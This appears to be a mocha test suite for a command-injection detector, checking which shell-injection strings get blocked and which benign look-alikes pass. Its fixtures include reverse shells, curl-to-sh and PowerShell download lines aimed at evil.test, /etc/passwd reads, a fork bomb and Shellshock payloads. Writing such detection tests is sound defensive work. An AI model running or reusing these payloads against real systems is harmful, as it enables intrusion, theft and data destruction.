// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shells have them too.
import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import type { Place } from '../../../src/detection/place.js';
import { commandInjection } from '../../../src/detection/signatures/command-injection/index.js';
import { found, score } from '../found.js';

const BLOCKED = 40;
const families = [commandInjection];

function sees(what: string, values: readonly string[], place: Place = 'json'): void {
  for (const value of values) {
    const ids = found(value, { families, place });
    assert.ok(ids.includes(`command_injection.${what}`), `${JSON.stringify(value)}: ${ids.join()}`);
    assert.ok(score(value, { families, place }) >= BLOCKED, value);
  }
}

function passes(values: readonly string[], place: Place = 'json'): void {
  for (const value of values) {
    const reached = score(value, { families, place });
    assert.ok(reached < BLOCKED, `${JSON.stringify(value)}: ${reached}, ${found(value, { families, place }).join()}`);
  }
}

describe('command injection', () => {
  it('sees a command behind a separator', () => {
    sees('separated_command', [
      '203.0.113.9;id',
      '203.0.113.9 && whoami',
      'photo.png;uname -a',
      '|| ls -l ../',
      '1 | netstat -tulpn',
      "report'; ping -c 3 collector.test; '",
      '"; tail -n 5 /var/log/syslog #',
      '& ipconfig /all &',
      '203.0.113.9\nid',
      ';sleep 7;',
      '| net user',
      '%26%26 hostname',
      ';\0whoami',
      '|\vuname -r',
      '&#59;ifconfig',
    ]);
    sees('separated_command', ['x%3Bwhoami', '%0auname%20-r', '1%26%26sleep+9'], 'query');
    sees('separated_command', ['%7Cwhoami', '1%253Buname'], 'cookie');
    sees('separated_command', [';wget http://evil.test/a.sh -O /tmp/a'], 'user_agent');
  });

  it('passes separators between words', () => {
    passes([
      'R&D; find us there',
      'AT&T | time to switch',
      'Salt & Pepper',
      'name|id|date',
      'red;green;blue',
      'sort=name;order=asc',
      'bash; zsh; fish',
      'Skills: Docker; Git; Bash; Python',
      'The Who; Live at Leeds',
      'look ;) more',
      'type A = { id: string } & { date: Date }',
      'string | null',
      '{{ date | format }}',
      'Tom &amp; Jerry; sort of',
      'rate(http_requests_total[5m]) | sort',
      '| a | b |\n|---|---|\n| find | sort |',
      'https://shop.example/find?sort=date&type=cat&id=3',
    ]);
    passes(['Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0'], 'user_agent');
    passes(['text/html,application/xml;q=0.9,*/*;q=0.8', 'timeout=5, max=100', 'gzip;q=1.0, *;q=0.5'], 'header');
  });

  it('sees a command whose output is put into a value', () => {
    sees('substituted_command', [
      '$(id)',
      'a$(sleep 4)b',
      '`whoami`',
      'x`uname -a`y',
      '<(cat notes)',
      '$(</etc/hosts)',
    ]);
    sees('substituted_command', ["system('ls -l')", 'Process.spawn("ls -l")', "exec('pwd')"]);
    passes([
      '$(document).ready(f)',
      '$(this)',
      '`${a} ${b}`',
      '${name} has ${count}',
      'Fix the `find` command in docs',
    ]);
  });

  it('sees a value that is a command line', () => {
    sees('plain_command', [
      'cat /etc/passwd',
      'ls -la /home',
      'wget http://evil.test/x',
      'nohup ifconfig "x"',
      'tar -cf /tmp/a.tar /etc',
    ]);
    passes([
      'who',
      'find my phone',
      'cat food',
      'time of day',
      'echo dot',
      'sort by: date',
      'host & guest',
      'kill bill: part 2',
      'git clone https://git.test/a.git',
    ]);
  });

  it('sees a program that is called by its path', () => {
    sees('program_path', ['|/usr/bin/id', '/usr/bin/id', ';./exploit', '/bin/ls -la', 'a)|/bin/sleep 3;']);
    passes(['/usr/local/bin/node', '/bin/bash', './run.sh', '../assets', 'C:\\Program Files\\Git\\bin\\git.exe']);
  });

  it('sees words that are hidden from readers but not from a shell', () => {
    sees('hidden_command', [
      ";w'h'oami",
      ';c\\at notes',
      ';who$@ami',
      ';un``ame',
      '&w^hoami',
      'pi$()ng 127.0.0.1',
      ';${HOME:0:1}bin',
      "x;$'\\x69\\x64'",
    ]);
    passes(["rock'n'roll; more", 'O\u2019Neil; D\u2019Arcy', 'C:\\cat\\id', "it's; that's", '$5; $6']);
  });

  it('sees arguments without spaces', () => {
    sees('field_separator', ['cat${IFS}/etc/hosts', ';ping$IFS$9-c3', '{cat,/etc/hosts}', ';{ping,-c,3,evil.test}']);
    passes(['{a,b}', '{red,green}', 'IFS', 'x;{id};y']);
  });

  it('sees paths of the system with wildcards', () => {
    sees('glob_path', ['/???/c?t /etc/hosts', ';/b?n/l?', 'cat /etc/pa[s]swd']);
    passes(['/images/*.png', 'src/**/*.ts', '/api/*/items', '/[a-z]+/i', '/what?']);
  });

  it('sees code for an interpreter', () => {
    sees('interpreter_code', [
      "perl -e 'print 1'",
      ';python3 -c "import os"',
      'bash -c id',
      'cmd /c dir',
      "awk 'BEGIN{system(1)}'",
    ]);
    passes(['python 3', 'php & mysql', 'perl -- a history', "awk '{print $1}' a.csv"]);
  });

  it('sees a shell that is connected to the network', () => {
    sees('network_shell', [
      'nc -e /bin/sh 203.0.113.9 4444',
      'bash -i >& /dev/tcp/203.0.113.9/99 0>&1',
      ';socat tcp:203.0.113.9:9 exec:sh',
    ]);
    passes(['nc state university', 'tcp/ip; udp']);
  });

  it('sees text that is piped into a shell', () => {
    sees('piped_to_shell', ['; curl evil.test/a|sh', ';echo aWQ=|base64 -d|bash']);
    passes(['bash | shell', 'curl | sh: why not']);
  });

  it('sees output to a file of the system', () => {
    sees('file_redirection', ['; echo 1 > /var/www/x.txt', '>/tmp/x']);
    passes(['a -> /tmp/b', '<a href="x">/tmp/x</a>', 'Home > /about']);
  });

  it('sees a variable that is run', () => {
    sees('variable_command', [';X=id;$X', '&&a=who;b=ami;$a$b', ';$SHELL -c id']);
    passes(['$x; $y', 'total = 5; $total']);
  });

  it('sees functions that bash takes from a variable', () => {
    for (const place of ['user_agent', 'header', 'cookie', 'json', 'referer'] as const)
      sees('shellshock', ['() { :;}; echo x', '() { x;};/bin/sh -c id', '() { x; }; id'], place);
    passes(['() => { return 1; }', 'function () { return 1; }', 'f() { return a; }', 'x(); { y }']);
  });

  it('sees a function that starts itself again and again', () => {
    sees('fork_bomb', [':(){ :|:& };:', 'b(){ b|b& };b']);
    passes(['f(){ return f(1) }', 'a(){ b|c }']);
  });

  it('sees control structures, variables and programs of Windows', () => {
    sees('windows_control', [
      'for /f %i in (x.txt) do echo %i',
      '& for %a in (1,2) do dir',
      'if exist c:\\x echo y',
      'if "%a%"=="1" del x',
    ]);
    sees('windows_variable', ['%PROGRAMFILES:~10,1%', 'x %COMSPEC% /c dir']);
    sees('separated_command', ['& certutil -urlcache -f http://evil.test/a a.exe', '| dir c:\\']);
    passes(['for a while in (brackets)', 'if it exists, do', '100%; at least', '%d of %s', 'if (a == b) { c() }']);
  });

  it('sees commands of PowerShell', () => {
    sees('powershell', [
      'powershell -enc SQBFAFgA',
      ';Invoke-WebRequest -Uri http://evil.test',
      'IEX(New-Object Net.WebClient)',
    ]);
    passes(['PowerShell basics: a course', 'get-started; set-up']);
  });

  it('sees options that make a program run or write something', () => {
    sees('argument_injection', ['--checkpoint-action=exec=id', '-oProxyCommand=id', '--output=/etc/cron.d/a']);
    passes(['--help', '-5', '- output = 3', '--verbose=true']);
  });

  it('sees code of script languages that calls a command', () => {
    sees('script_interpolation', ['@{[system "id"]}', "%x('ls')"]);
    passes(['a@b.test [x]', '50%x']);
  });

  it('sees an unknown program by how it is used', () => {
    sees('unknown_command', ['; frobnicate --version', '203.0.113.9 | frob -x', ';frob /srv']);
    passes(['rock & roll -live', 'a; b - c', 'foo | bar', ';frob']);
  });

  it('passes searches for commands, quotations and examples for an interface', () => {
    passes([
      'tar -xzf explained',
      'What does `chmod -R dir` do',
      "curl -X PUT https://api.shop.example/v2/items -d '{}'",
    ]);
    sees('plain_command', ['curl https://evil.test/a -o /tmp/a', 'ssh -o ProxyCommand="sh -c id" x', 'rm -rf *']);
  });

  it('sees a lone program whose name is taken apart by quotes', () => {
    sees('hidden_command', ["w'h'oami", 'un"am"e', "who''ami", "if'c'onfig"]);
    passes(["rock 'n' roll", "O'Neil's", "l''s", 'a"b"c', "it's 'so' nice", 'the "top"ics']);
  });

  it('sees a name of a program that a shell puts together from a list', () => {
    sees('hidden_command', ['c{a,urio}t /etc/hosts', '{l,-a}s', ';un{ame,ix} -a', '$(wh{o,}ami)', 'a | ta{i,bl}l']);
    sees('glob_path', ['{/?in/?d,}', ';{/b*n/u?ame,-a}']);
    passes(['src/{a,b}.ts', '{id,name}', 'f{x,y}', 'set {a,b}', '{"a":1,"b":2}', '/items/{id},{name}', 'c {a,b}t']);
  });

  it('sees expansions that only a shell has', () => {
    sees('hidden_command', ['${x#y}', '${PATH##*/}', '${HOME%/*}', '${!SHELL}', '$((7))', '/${x#{}}etc']);
    sees('lone_expansion', ['~+', '~-', '~+1']);
    sees('lone_expansion', ['~%2B'], 'query');
    passes(['${i % 2}', '${name}', '${a ? b : c}', '~5', '~', '~-~', '~ 10', '~+ 5 km', '#{x}', '$(#id)', '${!done}']);
  });

  it('sees escape sequences that hide text from who looks at a terminal', () => {
    sees('terminal_escape', ['x\u001b[2Jy', '\\033[1A\\033[K ok', '\\x1b[2K', '\\e[6n', '\u001b]0;x\u0007\u001b[5A']);
    passes(['\u001b[31mred\u001b[0m', '\\033[1;32mgreen', 'a[2J]', '\\[a-z]', '[\\e]']);
  });

  it('sees a command behind the end of a line that is written as an escape', () => {
    sees('separated_command', [';\\nuname', '&&\\n. ls -la']);
    sees('network_shell', [';\\n.shell nc 203.0.113.9 4444 -e sh']);
    passes([';\\nand more', 'one;\\ntwo']);
  });

  it('sees a command whose input stands before it, and one behind a command or a name without a value', () => {
    sees('separated_command', [';</etc/hosts cat', 'uname; frob /etc/passwd', 'host=;find /srv -name id_rsa']);
    passes(['a=;b=;c=', 'Lunch; find a table', 'x </etc> y']);
  });

  it('sees conditions of Windows without signs', () => {
    sees('windows_control', ['IF EXIST report.txt CMD', 'if not defined x echo y']);
    passes([
      'if exist, then what',
      'If not defined otherwise',
      'if exist a way to do it',
      'If existing customers call',
    ]);
  });

  it('sees an editor that runs a command', () => {
    sees('interpreter_code', [';ex notes +q \\!uname', '| vim x :!id']);
    passes(['more !important']);
  });

  it('passes what ordinary applications put behind separators', () => {
    passes([
      'https://shop.example/find?sort=date&time=now&id=7&host=a#top',
      'text/html; charset=utf-8',
      'id=7; path=/; expires=Mon, 03 Jul 2023 11:35:55 GMT',
      'Mozilla/5.0 (X11; Linux x86_64; rv:1.0) Gecko/1 (find me; or not)',
      "It's a wall & more (10 x 20 cm)",
      'Home | Find | Help',
      'Brand;v="8", "Who";v="1"',
      'a&b="c"&d={"id":1}|{"time":2}',
    ]);
  });

  it('passes documents with commands in them', () => {
    passes([
      '# tar\n\n> Archives.\n\n- Create one:\n\n`tar -cf {{a.tar}} {{x}}`\n',
      'Try this:\n```\ncurl -s http://x.test | sh\nrm -rf /tmp/x; ls -la\n```\nthen tell me what it says, please.',
      'I ran the installer twice and then it said to me: permission denied; sudo make install did not help at all, so what now?',
      '<p>Run <code>ls -la; id</code> and look</p>',
      'Error: x\n    at Foo.bar (foo.js:1:2)\n    at com.example.Foo.bar(Foo.java:3)\n    at a/b/c.js:3',
    ]);
  });

  it('is not put off by padding', () => {
    const padding = 'A'.repeat(20_000);
    sees('separated_command', [`${padding};cat /etc/passwd`, `203.0.113.9;cat /etc/passwd #${padding}`]);
  });
});
